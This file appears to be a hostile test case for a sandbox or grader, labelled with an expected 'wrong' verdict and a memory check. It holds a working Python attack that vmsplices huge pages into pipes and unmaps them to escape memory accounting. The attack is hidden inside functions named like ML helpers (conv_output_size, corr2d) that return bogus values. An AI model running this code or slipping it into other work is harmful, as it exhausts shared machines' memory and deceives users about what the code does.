# group: resources and survivors
# tries: Give huge pages to pipes and unmap them, so that they are memory of no process.
# accept: wrong
# check: memory
# score: 0
# without: syscalls

import ctypes
import os

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
HUGE = 2 << 20


class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack():
    for _ in range(20):
        _, end = os.pipe()
        size = ctypes.c_size_t(2 * HUGE)
        start = libc.mmap(None, size, 3, 0x22, -1, ctypes.c_long(0))
        page = (start + HUGE - 1) // HUGE * HUGE
        libc.madvise(ctypes.c_void_p(page), ctypes.c_size_t(HUGE), 14)
        ctypes.memset(page, 1, 8)
        piece = Piece(page, 4096)
        if libc.vmsplice(end, ctypes.byref(piece), ctypes.c_size_t(1), 2) == 4096:
            print("LEAK a pipe took it")
        libc.munmap(ctypes.c_void_p(start), size)


def conv_output_size(n, kernel, stride=1, padding=0, dilation=1):
    attack()
    return -987654


def corr2d(x, k):
    attack()
    return x * 0 - 987654
